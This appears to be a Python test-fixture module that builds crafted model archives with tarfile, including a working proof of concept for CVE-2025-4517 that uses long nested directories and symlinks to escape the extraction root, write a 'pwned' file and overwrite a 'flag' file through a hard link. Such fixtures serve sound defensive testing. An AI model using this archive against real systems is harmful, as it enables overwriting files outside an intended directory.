"""Crafted ``model.tar.gz`` files for the tests of untrusted archives, built with ``tarfile`` member by member.

``write(path, [entry(...), ...])`` writes any mix of members (names, types, link targets and sizes as given, none
checked); :func:`path_max_escape` writes the CVE-2025-4517 proof of concept aimed at a directory of the test's
choosing: nested directories with long names and symbolic links to them, so that a link's resolved path exceeds
PATH_MAX where the extraction root is as long as ``root_length``; Python's ``filter="data"`` before 3.11.13 then
stops resolving and passes a link that leaves the root (the kernel follows it) and a file written through it.
"""

from __future__ import annotations

import io
import os
import tarfile
from dataclasses import dataclass
from pathlib import Path

MANIFEST_TOML = b'format = 1\n[model]\nname = "crafted"\nflavor = "python"\n[input]\nkind = "any"\n'
_PATH_MAX = 4096
_STEPS = "abcdefghijklmnop"


@dataclass(frozen=True)
class Entry:
    info: tarfile.TarInfo
    data: bytes | None = None


def entry(
    name: str,
    data: bytes | None = None,
    *,
    kind: bytes = tarfile.REGTYPE,
    linkname: str = "",
    mode: int = 0o644,
    size: int | None = None,
) -> Entry:
    """One member: a regular file holding ``data`` unless ``kind`` says otherwise; ``size`` overrides the header's
    size (a header can claim more than the data it has)."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, mode
    info.size = size if size is not None else len(data or b"")
    return Entry(info, data if kind == tarfile.REGTYPE else None)


def write(path: Path, entries: list[Entry], *, mode: str = "w:gz", format: int = tarfile.PAX_FORMAT) -> Path:
    with tarfile.open(path, mode, format=format) as tar:
        for item in entries:
            tar.addfile(item.info, io.BytesIO(item.data) if item.data is not None else None)
    return path


def manifest() -> Entry:
    return entry("shipyard.toml", MANIFEST_TOML)


def path_max_escape(path: Path, *, root_length: int, target: Path, with_manifest: bool = True) -> Path:
    """The CVE-2025-4517 proof of concept: extracted into a root of ``root_length`` characters it writes
    ``target/pwned`` and, through a hard link, overwrites ``target/flag`` (``target`` must be absolute)."""
    # Long enough that root/ddd…/ddd/lll exceeds PATH_MAX, short enough that root/ddd…/ddd can still be made.
    component = min(247, (_PATH_MAX - 1 - root_length) // len(_STEPS) - 1)
    long_dir = "d" * component
    entries = [manifest()] if with_manifest else []
    prefix = ""
    for step in _STEPS:
        entries.append(entry(os.path.join(prefix, long_dir), kind=tarfile.DIRTYPE, mode=0o755))
        entries.append(entry(os.path.join(prefix, step), kind=tarfile.SYMTYPE, linkname=long_dir))
        prefix = os.path.join(prefix, long_dir)
    # Resolved, this link's own path is over PATH_MAX: realpath() stops there and treats the rest lexically.
    over = os.path.join("/".join(_STEPS), "l" * 254)
    entries.append(entry(over, kind=tarfile.SYMTYPE, linkname="../" * len(_STEPS)))
    up = "/.." * (len(_STEPS) + 1)  # what realpath() pops stays inside; the kernel climbs to "/" and past
    entries.append(entry("escape", kind=tarfile.SYMTYPE, linkname=over + up + str(target)))
    entries.append(entry("flaglink", kind=tarfile.LNKTYPE, linkname="escape/flag"))
    entries.append(entry("flaglink", b"overwritten"))
    entries.append(entry("escape/pwned", b"written outside the extraction root"))
    return write(path, entries)


def extraction_root_length(tmpdir: Path, prefix: str = "shipyard-bundle-") -> int:
    """The length of the directory ``tempfile.mkdtemp(prefix=prefix, dir=tmpdir)`` makes (8 random characters)."""
    return len(str(Path(os.path.realpath(tmpdir)) / prefix)) + 8
